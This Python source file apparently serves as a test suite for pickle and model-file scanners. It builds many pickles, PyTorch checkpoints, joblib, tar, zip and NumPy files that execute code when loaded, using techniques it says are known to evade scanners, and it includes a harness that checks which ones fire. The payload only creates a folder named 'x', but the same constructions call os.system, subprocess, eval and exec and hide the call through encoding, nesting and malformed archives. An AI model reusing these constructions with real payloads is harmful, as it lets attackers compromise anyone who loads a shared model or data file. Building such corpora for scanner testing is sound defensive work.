"""Pickles, and files that hold pickles, that act when they are loaded: each makes a folder `x` where it is loaded.

Written by code, opcode by opcode, after what is known to get past scanners. `job.act` is a job's own function.
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import os
import pickle
import struct
import tarfile
import warnings
import zipfile
import zlib
from typing import NamedTuple

MAGIC = pickle.dumps(0x1950A86A20F9469CFC6C, 2)
PLAIN = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."
JOB = "import os\ndef act(*args):\n    os.mkdir('x')\n    return args\n"


class Attack(NamedTuple):
    """A file: what its name ends with, its bytes, and what loads it: pickle, torch or numpy."""

    suffix: str
    data: bytes
    loader: str


def text(value: str) -> bytes:
    return b"X" + struct.pack("<L", len(value)) + value.encode()


def name(module: str, attribute: str) -> bytes:
    return f"c{module}\n{attribute}\n".encode()


def stack_name(module: str, attribute: str) -> bytes:
    return text(module) + text(attribute) + b"\x93"


def call(module: str, attribute: str, *args: bytes) -> bytes:
    return name(module, attribute) + b"(" + b"".join(args) + b"tR"


MKDIR = call("posix", "mkdir", text("x"))
RUN = name("torch.utils.collect_env", "run")
SHELL = text("mkdir x")


class ByReduce:
    def __reduce__(self):
        return os.mkdir, ("x",)


class ByReduceEx:
    def __reduce_ex__(self, protocol):
        return os.mkdir, ("x",)


def namespace(hook: str, value: bytes) -> bytes:
    """An instance whose own attribute is what pickle takes for its method."""
    return b"ctypes\nSimpleNamespace\n)\x81}" + text(hook) + value + b"sb"


def _pickles() -> dict[str, bytes]:
    head, head4, head5 = b"\x80\x02", b"\x80\x04", b"\x80\x05"
    act, path = name("job", "act"), call("pathlib", "Path", text("x"))
    found = {f"__reduce__, protocol {number}": pickle.dumps(ByReduce(), number) for number in range(6)}
    found |= {f"__reduce_ex__, protocol {number}": pickle.dumps(ByReduceEx(), number) for number in range(6)}
    found |= {
        # How it is called.
        "STACK_GLOBAL": head4 + stack_name("posix", "mkdir") + text("x") + b"\x85R.",
        "STACK_GLOBAL, names from the memo": head4 + text("mkdir") + b"\x94" + text("posix") + b"\x94h\x00\x93"
        + text("x") + b"\x85R.",
        "INST": b"(S'x'\niposix\nmkdir\n.",
        "OBJ": b"(cposix\nmkdir\nS'x'\no.",
        "OBJ without arguments": b"(cjob\nact\no.",
        "INST without arguments": b"(ijob\nact\n.",
        "a function of the job": head + call("job", "act", text("x")) + b".",
        "state setter": head5 + b"cbuiltins\nobject\n)\x81\x94cjob\nact\nh\x00" + text("x") + b"\x86R0.",
        "result popped": head + MKDIR + b"0}.",
        "popped after the object": head + b"}" + MKDIR + b"0.",
        "popped with its mark": head + b"}(" + MKDIR + b"1.",
        "kept in the memo only": head + MKDIR + b"q\x000N.",
        "as a key": head + b"}" + MKDIR + b"Ns.",
        "as an argument": head + call("builtins", "list", b"(" + MKDIR + b"t") + b".",
        "in a state": head + b"cbuiltins\nobject\n)\x81}" + text("a") + MKDIR + b"sb.",
        "arguments made by a call": head + name("job", "act") + call("builtins", "tuple", b"]") + b"R.",
        # Functions that call others.
        "partial": head + call("functools", "partial", name("posix", "mkdir"), text("x")) + b")R.",
        "partial of the job": head + call("functools", "partial", act, text("x")) + b")R.",
        "map and list": head + call("builtins", "list", call("builtins", "map", name("posix", "mkdir"), b"]"
        + text("x") + b"a")) + b".",
        "starmap and list": head + call("builtins", "list", b"citertools\nstarmap\n" + act + b"](" + text("x")
        + b"ta\x86\x81") + b".",
        "imap by its old name": head + call("__builtin__", "list", b"citertools\nimap\n" + act + b"]" + text("x")
        + b"a\x86\x81") + b".",
        "reduce": head + call("functools", "reduce", act, b"]" + text("x") + b"a" + text("y") + b"a") + b".",
        "methodcaller": head + call("operator", "methodcaller", text("mkdir")) + path + b"\x85R.",
        "attrgetter": head + call("operator", "attrgetter", text("mkdir")) + path + b"\x85R)R.",
        "getattr of a method": head + call("builtins", "getattr", name("pathlib", "Path"), text("mkdir")) + path
        + b"\x85R.",
        "getattr of a module": head + call("builtins", "getattr", name("os", "path"), text("os")) + b"0" + MKDIR + b".",
        "a method by its dots": head4 + stack_name("pathlib", "Path.mkdir") + path + b"\x85R.",
        "a module by its dots": head4 + stack_name("shutil", "os.mkdir") + text("x") + b"\x85R.",
        "a module of torch's by its dots": head4 + stack_name("torch.serialization", "os.mkdir") + text("x")
        + b"\x85R.",
        "a class by its dots": head4 + stack_name("torch.serialization", "io.FileIO") + text("x") + text("w")
        + b"\x86R.",
        "_reconstructor": head + call("copyreg", "_reconstructor", name("logging", "FileHandler"),
        name("logging", "FileHandler"), text("x")) + b".",
        # pickle's own hooks.
        "__setstate__ of an instance": head + namespace("__setstate__", act) + text("x") + b"b.",
        "append of an instance": head + namespace("append", act) + text("x") + b"a.",
        "extend of an instance": head + namespace("extend", act) + b"(" + text("x") + b"e.",
        "add of an instance": head4 + namespace("add", act) + b"(" + text("x") + b"\x90.",
        "__new__ of an instance": head + call("copyreg", "__newobj__", namespace("__new__", act)) + b".",
        "__new__ of a class made": head + call("builtins", "type", text("A"), b")", b"}" + text("__new__") + act + b"s")
        + b")\x81.",
        "__init__ of a class made": head + call("builtins", "type", text("A"), b")", b"}" + text("__init__") + act
        + b"s") + b")R.",
        "__setstate__ of a class made": head + call("abc", "ABCMeta", text("A"), b")", b"}" + text("__setstate__") + act
        + b"s") + b")\x81" + text("x") + b"b.",
        "__getattr__ of a module": head + b"cjob\nos\n}" + text("a") + b"Nsb" + MKDIR + b".",
        # Code as text, and other names for the same.
        "eval": head + call("builtins", "eval", text("__import__('os').mkdir('x')")) + b".",
        "exec": head + call("builtins", "exec", text("import os; os.mkdir('x')")) + b".",
        "eval by its old name": head + call("__builtin__", "eval", text("__import__('os').mkdir('x')")) + b".",
        "commands by its old name": head + call("commands", "getoutput", SHELL) + b".",
        "os": head + call("os", "system", SHELL) + b".",
        "subprocess": head + call("subprocess", "getoutput", SHELL) + b".",
        "Popen": head + call("subprocess", "Popen", b"]" + text("mkdir") + b"a" + text("x") + b"a") + b".",
        "timeit": head + call("timeit", "timeit", text("0"), text("import os; os.mkdir('x')")) + b".",
        "cProfile": head + call("cProfile", "run", text("import os; os.mkdir('x')"), text("/dev/null")) + b".",
        "profile": head + call("profile", "run", text("import os; os.mkdir('x')"), text("/dev/null")) + b".",
        "bdb": head4 + stack_name("bdb", "Bdb.run") + call("bdb", "Bdb") + text("import os; os.mkdir('x')") + b"\x86R.",
        "trace": head4 + stack_name("trace", "Trace.run") + call("trace", "Trace") + text("import os; os.mkdir('x')")
        + b"\x86R.",
        "code": head4 + stack_name("code", "InteractiveInterpreter.runsource") + call("code", "InteractiveInterpreter")
        + text("import os; os.mkdir('x')") + b"\x86R.",
        "pkgutil": head + call("pkgutil", "resolve_name", text("os:mkdir")) + text("x") + b"\x85R.",
        "importlib": head + call("builtins", "getattr", call("importlib", "import_module", text("os")), text("mkdir"))
        + text("x") + b"\x85R.",
        "uuid": head + call("uuid", "_get_command_stdout", text("mkdir"), text("x")) + b".",
        "imaplib": head + call("imaplib", "IMAP4_stream", SHELL) + b".",
        "pydoc": head + call("pydoc", "pipepager", text(""), SHELL) + b".",
        "FileHandler": head + call("logging", "FileHandler", text("x")) + b".",
        "handlers": head + call("logging.handlers", "WatchedFileHandler", text("x")) + b".",
        "FileIO": head + call("_io", "FileIO", text("x"), text("w")) + b".",
        "ZipFile": head + call("zipfile", "ZipFile", text("x"), text("w")) + b".",
        "TarFile": head + call("tarfile", "TarFile", text("x"), text("w")) + b".",
        "Maildir": head + call("mailbox", "Maildir", text("x")) + b".",
        "sqlite3": head + call("sqlite3", "Connection", text("x")) + b".",
        "shelve": head + call("shelve", "open", text("x")) + b".",
        "makedirs": head + call("os", "makedirs", text("x")) + b".",
        "distutils": head + call("distutils.dir_util", "mkpath", text("x")) + b".",
        "torch's run": head + call("torch.utils.collect_env", "run", SHELL) + b".",
        "torch's rebuild of anything": head + call("torch._tensor", "_rebuild_from_type_v2", RUN,
        name("builtins", "tuple"), b"(" + SHELL + b"t", b"N") + b".",
        "numpy's generator of anything": head + call("numpy.random._pickle", "__generator_ctor", SHELL, RUN) + b".",
        "numpy's state of anything": head + call("numpy.random._pickle", "__randomstate_ctor", SHELL, RUN) + b".",
        "torch's run as a hook": head + namespace("__setstate__", RUN) + SHELL + b"b.",
        "torch's file writer": head + call("torch._C", "PyTorchFileWriter", text("x")) + b".",
        "torch's file store": head + call("torch.distributed", "FileStore", text("x"), b"K\x01") + b".",
        "torch's package": head + call("torch.package.package_exporter", "PackageExporter", text("x")) + b".",
        "torch.load": head + call("torch", "load", text("other.pt")) + b".",
        "numpy.load": head + call("numpy", "load", text("other.npy")) + b".",
        "numpy's memmap": head + call("numpy", "memmap", text("x"), text("u1"), text("w+"), b"K\x00", b"K\x04") + b".",
        "numpy's runstring": head + call("numpy.testing._private.utils", "runstring",
        text("import os; os.mkdir('x')"), b"}") + b".",
        "numpy's f2py": head + call("numpy.f2py.crackfortran", "myeval", text("__import__('os').mkdir('x')"), b"}",
        b"}") + b".",
        # Pickles in pickles.
        "pickle.loads": head + call("pickle", "loads", b"C" + bytes([len(MKDIR) + 3]) + head + MKDIR + b".") + b".",
        "_pickle.loads": head + call("_pickle", "loads", b"C" + bytes([len(MKDIR) + 3]) + head + MKDIR + b".") + b".",
        "cPickle.loads": head + call("cPickle", "loads", b"C" + bytes([len(MKDIR) + 3]) + head + MKDIR + b".") + b".",
        "_load_from_bytes": head + call("torch.storage", "_load_from_bytes", _bytes(legacy(head + MKDIR + b".")))
        + b".",
        "_load_from_bytes, as text": head + call("torch.storage", "_load_from_bytes",
        call("_codecs", "encode", b"X" + struct.pack("<L", len(_latin(legacy(head + MKDIR + b"."))))
        + _latin(legacy(head + MKDIR + b".")), text("latin1"))) + b".",
        "_load_from_bytes of a zip": head + call("torch.storage", "_load_from_bytes",
        _bytes(zipped(("a/data.pkl", head + MKDIR + b"."), ("a/version", b"3\n")))) + b".",
        # Spelling.
        "names with escapes": b"S'\\x70osix'\nS'mkd\\x69r'\n\x93(S'x'\ntR.",
        "names as unicode": b"V\\u0070osix\nVmkdir\n\x93(Vx\ntR.",
        "no protocol, though of 4": stack_name("posix", "mkdir").replace(b"X\x05\0\0\0", b"\x8c\x05", 1) + b"(Vx\ntR.",
        "no protocol": name("posix", "mkdir") + b"(Vx\ntR.",
        "a protocol in the middle": b"0\x80\x04"[1:] + stack_name("posix", "mkdir") + text("x") + b"\x85R\x80\x02.",
        "both ways to number the memo": head4 + b"N\x94Nq\x05" + MKDIR + b".",
        "MEMOIZE in protocol 2": head + b"N\x94" + MKDIR + b".",
        "an index with a sign": head + text("x") + b"p0\ng+0\n" + MKDIR + b".",
        "a number in hexadecimal": b"I0x10\n" + MKDIR + b".",
        "a length in two frames": head4 + b"\x95\x01\x00\x00\x00\x00\x00\x00\x00N" + MKDIR + b".",
        "the extension registry": head + b"\x82\xf0" + text("x") + b"\x85R.",
        # Broken, but only afterwards.
        "cut after the call": head + MKDIR,
        "no opcode after the call": head + MKDIR + b"\xff.",
        "an empty stack after the call": head + MKDIR + b"000.",
        "a state for a number after the call": head + MKDIR + b"0K\x01Nb.",
        "a call of a number after the call": head + MKDIR + b"0K\x01)R.",
        "cut in a string after the call": head + MKDIR + b"X\xff\x00\x00\x00abc",
        "a key that has no hash after the call": head + MKDIR + b"0}]Ns.",
        "after a persistent id": head + MKDIR + b"0NQ.",
    }  # fmt: skip
    return found


def _latin(data: bytes) -> bytes:
    return data.decode("latin1").encode()


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<L", len(data)) + data


def legacy(*pickles: bytes) -> bytes:
    """A stream as torch.save wrote it before 1.6; pickles take the places of the last of its five."""
    info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2)
    own = [MAGIC, pickle.dumps(1001, 2), info, PLAIN, pickle.dumps([], 2)]
    own[3 : 3 + len(pickles)] = pickles
    return b"".join(own)


def zipped(*members: tuple[str, bytes], method: int = zipfile.ZIP_STORED, comment: bytes = b"") -> bytes:
    out = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(out, "w", method) as archive:
        warnings.simplefilter("ignore")  # of names that come twice
        for member, data in members:
            archive.writestr(zipfile.ZipInfo(member), data, method)
        archive.comment = comment
    return out.getvalue()


def tarred(*members: tuple[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        for member, data in members:
            info = tarfile.TarInfo(member)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def _tar_that_begins_with(data: bytes) -> bytes:
    return data + tarred(("a" * 90, PLAIN))[len(data) :]


def array_of_objects(data: bytes, dtype: str = "|O") -> bytes:
    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': (1,), }}".encode()
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


def _wrong_crc(data: bytes, member: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        crc = struct.pack("<L", archive.getinfo(member).CRC)
    return data.replace(crc, struct.pack("<L", 1))


def _files() -> dict[str, Attack]:
    evil, version = b"\x80\x02" + MKDIR + b".", ("archive/version", b"3\n")
    own = ("archive/data.pkl", PLAIN)
    good = zipped(("archive/data.pkl", evil), version)
    no_storages = pickle.dumps(0) + pickle.dumps([])
    zips = {
        "data.pkl": good,
        "another folder, first": zipped(("other/data.pkl", evil), own, version),
        "another folder, last": zipped(own, version, ("other/data.pkl", evil), ("other/version", b"3\n")),
        "the folder of the first record": zipped(("other/version", b"3\n"), own, ("other/data.pkl", evil), version),
        "twice, the second": zipped(own, ("archive/data.pkl", evil), version),
        "twice, the first": zipped(("archive/data.pkl", evil), own, version),
        "in capitals": zipped(("archive/DATA.PKL", evil), version),
        "in capitals beside": zipped(("archive/DATA.PKL", evil), own, version),
        "in capitals behind": zipped(own, ("archive/DATA.PKL", evil), version),
        "compressed": zipped(("archive/data.pkl", evil), version, method=zipfile.ZIP_DEFLATED),
        "with a wrong CRC32": _wrong_crc(good, "archive/data.pkl"),
        "with a comment": zipped(("archive/data.pkl", evil), version, comment=b"comment"),
        "with bytes behind": good + b"\0" * 100,
        "a folder deeper": zipped(("archive/a/data.pkl", evil), version),
        "the file flags of encryption": good.replace(b"PK\x01\x02\x14\x03\x14\0\0\0", b"PK\x01\x02\x14\x03\x14\0\1\0"),
        "another pickle beside": zipped(own, version, ("archive/more.pkl", evil)),
        "another pickle beside, by content": zipped(own, version, ("archive/more", evil)),
        "cut after the call": zipped(("archive/data.pkl", evil[:-1]), version),
        "no opcode after the call": zipped(("archive/data.pkl", evil[:-1] + b"\xff"), version),
    }  # fmt: skip
    streams = {
        "legacy": legacy(evil),
        "legacy, keys": legacy(PLAIN, evil),
        "legacy, magic number": evil + legacy()[len(MAGIC) :],
        "legacy, magic number popped": b"\x80\x02" + MKDIR + b"0" + legacy()[2:],
        "legacy, version": MAGIC + evil + legacy()[len(MAGIC) :],
        "a bare pickle": evil,
        "behind the first pickle": PLAIN + evil,
        "a tar's name": _tar_that_begins_with(name("posix", "mkdir") + b"(Vx\ntR."),
        "behind raw values": PLAIN + b"\1\2\3\4" * 99 + evil,
        "tar": tarred(("storages", no_storages), ("tensors", pickle.dumps(0)), ("pickle", evil)),
        "tar, storages": tarred(("storages", evil), ("tensors", pickle.dumps(0)), ("pickle", PLAIN)),
        "tar, tensors": tarred(("storages", no_storages), ("tensors", evil), ("pickle", PLAIN)),
    }
    found = {f"zip: {key}": Attack(".pt", data, "torch") for key, data in zips.items()}
    found |= {f"stream: {key}": Attack(".pt", data, "torch") for key, data in streams.items()}
    found |= {f"named {suffix}": Attack(suffix, good, "torch") for suffix in (".pth", ".bin", ".ckpt", ".pkl", ".zip")}
    found |= {
        f"pickle named {suffix}": Attack(suffix, evil, "pickle")
        for suffix in (".bin", ".ckpt", ".pth", ".pickle", ".joblib", ".dat", ".data", ".state", ".json.bak")
    }
    halves = [evil[:9], evil[9:]]
    packed = {
        "two gz": b"".join(map(gzip.compress, halves)), "two bz2": b"".join(map(bz2.compress, halves)),
        "two xz": b"".join(map(lzma.compress, halves)), "gz": gzip.compress(evil), "zlib": zlib.compress(evil),
        "bz2": bz2.compress(evil), "xz": lzma.compress(evil), "lzma": lzma.compress(evil, lzma.FORMAT_ALONE),
    }  # fmt: skip
    found |= {f"joblib, {key}": Attack(".joblib", data, "joblib") for key, data in packed.items()}
    return found | {
        "npy": Attack(".npy", array_of_objects(evil), "numpy"),
        "npy, spelt out": Attack(".npy", array_of_objects(evil, "object"), "numpy"),
        "npz": Attack(".npz", zipped(("a.npy", array_of_objects(evil))), "numpy"),
    }


ATTACKS = {f"pickle: {key}": Attack(".pkl", data, "pickle") for key, data in _pickles().items()} | _files()

CHILD = """
import bz2, copyreg, gzip, io, json, lzma, os, pickle, sys, time, zlib
import numpy, torch
files, folder = json.loads(sys.stdin.read()), sys.argv[1]
sys.path.insert(0, folder)
copyreg.add_extension("posix", "mkdir", 0xF0)
os.dup2(os.open(os.devnull, os.O_WRONLY), 2)

def unpacked(data):
    for opened in (gzip.decompress, zlib.decompress, bz2.decompress, lzma.decompress):
        try:
            return opened(data)
        except Exception:
            continue

def loaded(path, loader):
    if loader == "torch":
        torch.load(path, weights_only=False)
    elif loader == "numpy":
        found = numpy.load(path, allow_pickle=True)
        [found[name] for name in getattr(found, "files", ())]
    else:
        data = open(path, "rb").read()
        pickle.loads(unpacked(data) if loader == "joblib" else data)

for number, (path, loader) in enumerate(files):
    at = os.path.join(folder, str(number))
    os.mkdir(at)
    os.chdir(at)
    try:
        loaded(path, loader)
    except BaseException:
        pass
time.sleep(0.3)  # for those that start a process
acted = [os.path.lexists(os.path.join(folder, str(number), "x")) for number in range(len(files))]
os.write(1, json.dumps(acted).encode())
os._exit(0)
"""
"""Loads files of the collection, each in a folder of its own, and tells which made `x` there."""
